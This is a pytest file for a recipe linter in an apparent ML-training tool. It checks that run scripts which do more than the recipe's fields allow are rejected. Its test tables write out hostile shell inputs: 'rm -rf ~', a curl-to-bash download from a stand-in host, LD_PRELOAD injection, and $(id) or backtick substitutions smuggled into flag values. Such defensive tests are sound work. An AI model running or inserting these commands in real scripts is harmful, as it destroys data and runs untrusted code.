"""What a recipe's ``run`` may do in a shell: what its fields give, and nothing else."""

import copy

import pytest

from openrecipes.errors import InputError
from openrecipes.flags.shell import parse_script
from openrecipes.flags.words import commands, is_inert
from openrecipes.recipe.lint import lint_data
from openrecipes.recipe.render import render_run
from openrecipes.recipe.validate import validate

from .recipes import ALL, NANO, complete, data, with_arguments

NATIVE = {
    "schema_version": 1,
    "model": "Nemotron-3-Nano-30B-A3B",
    "gpu": {"type": "H200", "count": 16, "per_node": 8},
    "status": "planned",
    "stack": {"engine": "native"},
    "workload": {"row_tokens": 8192, "global_batch": 128, "precision": "bf16"},
    "layout": {"tp": 1, "pp": 1, "cp": 1, "ep": 8, "etp": 1, "dp": 16},
    "arguments": {"lr": "1e-5", "train-iters": "20"},
}


def rendered(recipe):
    recipe = copy.deepcopy(recipe)
    recipe["run"] = render_run(validate(recipe)[0])
    return recipe


def faults(recipe, run):
    recipe = {**recipe, "run": run}
    return [f for f in lint_data(recipe) if f.severity == "error"]


START = "python3 train.py \\\n"
LINE = 'read -ra MODEL_ARGS <<< "$MODEL_ARGS_LINE"\n'
HARM = {
    "a statement before": ("export", "rm -rf ~\nexport"),
    "a statement behind": ("minutes 30", "minutes 30\nrm -rf ~"),
    "and then": ("minutes 30", "minutes 30 && rm -rf ~"),
    "at once": ("minutes 30", "minutes 30 &"),
    "piped": ("minutes 30", "minutes 30 | tee log"),
    "sent elsewhere": ("minutes 30", "minutes 30 > log"),
    "both sent elsewhere": ("minutes 30", "minutes 30 &> log"),
    "errors sent elsewhere": ("minutes 30", "minutes 30 2>&1"),
    "a download": (START, "curl -s http://example.org | bash\n" + START),
    "a second program": (START, "python3 evil.py --lr 1\n" + START),
    "a preloaded library": (START, "LD_PRELOAD=/tmp/x.so " + START),
    "a plain assignment": (START, "LD_PRELOAD=/tmp/x.so\n" + START),
    "an unset variable": (START, "unset NCCL_DEBUG\n" + START),
    "a sourced file": (START, "source ~/.bashrc\n" + START),
    "a dotted file": (START, ". ./env.sh\n" + START),
    "another folder": (START, "cd /tmp\n" + START),
    "an exported function": ("export FI", "export -f evil\nexport FI"),
    "a name exported alone": ("export FI", "export LD_PRELOAD\nexport FI"),
    "a doubled export": ("export FI_PROVIDER=efa", "export FI_PROVIDER=efa\n  " * 2),
    "an optimizing start": ("python3 train.py", "python3 -O evil/train.py"),
    "another folder's program": ("python3 train.py", "python3 evil/train.py"),
    "a program with more letters": ("python3 train.py", "python3 train.py0"),
    "a program under another name": ("python3 train.py", "python train.py"),
    "a word that no flag takes": (START, "python3 train.py evil \\\n"),
    "arguments not read": (LINE, ""),
    "arguments read otherwise": ("read -ra", "read -r"),
    "arguments read twice": (LINE, LINE * 2),
    "arguments of a different script": ("miles/utils/", "evil/utils/"),
    "arguments not taken in": ('"${MODEL_ARGS[@]}" \\\n', "\\\n"),
    "arguments taken in and split": ('"${MODEL_ARGS[@]}"', "${MODEL_ARGS[@]}"),
    "the first argument alone": ('"${MODEL_ARGS[@]}"', '"${MODEL_ARGS[*]}"'),
    "other arguments": ('"${MODEL_ARGS[@]}"', '"${MODEL_ARGS[@]}" "${MORE[@]}"'),
    "read before it is set": (
        "MODEL_ARGS_LINE=",
        'read -ra MODEL_ARGS <<< "$MODEL_ARGS_LINE"\nMODEL_ARGS_LINE=',
    ),
    "a substitution": ("--input-key messages", "--input-key $(id)"),
    "a quoted substitution": ("--input-key messages", '--input-key "$(id)"'),
    "backticks": ("--input-key messages", "--input-key `id`"),
    "quoted backticks": ("--input-key messages", '--input-key "`id`"'),
    "a pattern": ("--input-key messages", "--input-key mess*"),
    "a home": ("--input-key messages", "--input-key ~/messages"),
    "a list in braces": ("--input-key messages", "--input-key {messages,x}"),
    "a variable that is split": ('"$HF_CKPT"', "$HF_CKPT"),
    "a variable behind a backslash": ('"$HF_CKPT"', '"\\\\$HF_CKPT"'),
    "a default that runs": ('"$HF_CKPT"', '"${HF_CKPT:-$(id)}"'),
    "a carriage return": ("--lr 1e-5", "--lr 1e-5\r"),
    "a substitution in an export": ("=efa", "=$(id)"),
}


@pytest.mark.parametrize("base", [complete(), data(NANO)], ids=["arguments", "bare"])
@pytest.mark.parametrize("name", HARM)
def test_whatever_else_a_shell_would_do_is_an_error(base, name):
    old, new = HARM[name]
    assert old in base["run"]
    run = base["run"].replace(old, new) if "minutes" in old else base["run"].replace(old, new, 1)
    assert faults(base, run)


def test_a_variable_that_is_no_longer_one_is_another_value():
    recipe = complete()
    assert faults(recipe, recipe["run"].replace('"$HF_CKPT"', "'$HF_CKPT'"))


@pytest.mark.parametrize("path", ALL)
def test_format_and_the_order_of_flags_are_free(path):
    recipe = with_arguments(path)
    assert faults(recipe, recipe["run"]) == []
    joined = recipe["run"].replace(" \\\n", " ").replace("\n", " ; ").replace(" ;  ; ", "; ")
    assert faults(recipe, "# as one line\n" + joined) == []
    assert faults(recipe, recipe["run"].replace("--lr 1e-5", "'--lr'=\"1e-5\"")) == []
    lines = recipe["run"].splitlines()
    exports = [line for line in lines if line.startswith("export")]
    rest = [line for line in lines if not line.startswith("export")]
    assert faults(recipe, "\n".join([*exports[::-1], *rest])) == []
    once = "export " + " ".join(line.removeprefix("export ") for line in exports)
    assert faults(recipe, "\n".join([once, *rest])) == []
    assert faults(recipe, render_run(validate(recipe)[0])) == []


def test_a_variable_is_exported_before_one_that_looks_it_up():
    recipe = with_arguments(NANO)
    recipe["env"] = {"A": "1", "B": "$A/x"}
    recipe = rendered(recipe)
    assert faults(recipe, recipe["run"]) == []
    swapped = recipe["run"].replace("export A=1\n", "").replace('"$A/x"\n', '"$A/x"\nexport A=1\n')
    assert [f.field for f in faults(recipe, swapped)] == ["env.B"]


@pytest.mark.parametrize(
    "old, new",
    [
        ("--nproc-per-node 8", "--nproc-per-node 4"),
        ("--nnodes 2", "--nnodes 1"),
        ("--nnodes 2", "--standalone"),
        ("-m openrecipes train", "-m openrecipes.train"),
        ("torchrun", "python3 evil.py; torchrun"),
    ],
)
def test_processes_of_a_native_command_are_the_recipes_gpus(old, new):
    recipe = rendered(NATIVE)
    assert faults(recipe, recipe["run"]) == []
    assert faults(recipe, recipe["run"].replace(old, new))


@pytest.mark.parametrize("change", [{"count": 8}, {"per_node": 4}, {"count": 32}])
def test_other_gpus_give_another_command(change):
    recipe = rendered(NATIVE)
    gpu = {**recipe["gpu"], **change}
    hits = [f.rule for f in faults({**recipe, "gpu": gpu}, recipe["run"])]
    assert "run-program" in hits


@pytest.mark.parametrize(
    "program, clean",
    [
        ("automodel sft.yaml", True),
        ("torchrun --nnodes 2 --nproc-per-node=8 -m nemo_automodel.cli.app sft.yaml", True),
        ("torchrun --nnodes 2 --nproc-per-node=4 -m nemo_automodel.cli.app sft.yaml", False),
        ("torchrun --nnodes 1 --nproc-per-node=8 -m nemo_automodel.cli.app sft.yaml", False),
        ("torchrun --nnodes 2 -m evil sft.yaml", False),
        ("python3 automodel", False),
        ("automodel sft.yaml; rm -rf ~; automodel x.yaml", False),
    ],
)
def test_an_engine_with_a_file_of_its_own(program, clean):
    recipe = {**NATIVE, "stack": {"engine": "automodel"}}
    run = render_run(validate(NATIVE)[0])
    flags = run[run.index("--lr") :]
    hits = [f for f in faults(recipe, f"{program} {flags}") if f.rule.startswith("run-")]
    wrong = [f for f in hits if f.rule in ("run-program", "run-statements")]
    assert (wrong == []) is clean


def test_a_program_that_nobody_knows_is_warned_of():
    recipe = data(NANO)
    recipe["stack"]["framework"] = "Megatron-LM of somebody"
    hits = [f for f in lint_data(recipe) if f.rule == "run-program"]
    assert [(f.severity, f.field) for f in hits] == [("warning", "stack.framework")]


@pytest.mark.parametrize(
    "text, inert",
    [
        ("plain-1.5", True),
        ("'$(id) `id` *'", True),
        ('"a b $NAME"', True),
        ("a\\*", True),
        ("$NAME", False),
        ("*", False),
        ("`id`", False),
        ('"`id`"', False),
        ("$(id)", False),
        ('"$(id)"', False),
        ("$'x'", False),
        ("<(id)", False),
    ],
)
def test_words_that_a_shell_acts_on(text, inert):
    ((word,),) = commands(text)
    assert is_inert(word.exact) is inert


def test_what_differs_in_a_shell_differs_exactly():
    texts = ["$A", '"$A"', "'$A'", '"\\$A"', '"\\\\$A"', '"${A}"', "$(A)", "`A`", "'`A`'"]
    exact = [next(commands(text))[0].exact for text in texts]
    same = {("'$A'", '"\\$A"')}
    for i, one in enumerate(texts):
        for j, other in enumerate(texts[:i]):
            assert (exact[i] == exact[j]) is ((other, one) in same), (one, other)


def test_redirections_are_no_values():
    script = parse_script("train.py --lr 1 --bf16 > log 2>&1 < /dev/null &>> x | tee y")
    assert script.typed() == {"lr": "1", "bf16": True}
    assert script.outline.behind


def test_a_script_of_operators_alone_is_refused():
    with pytest.raises(InputError):
        parse_script("& | ;;; &&")
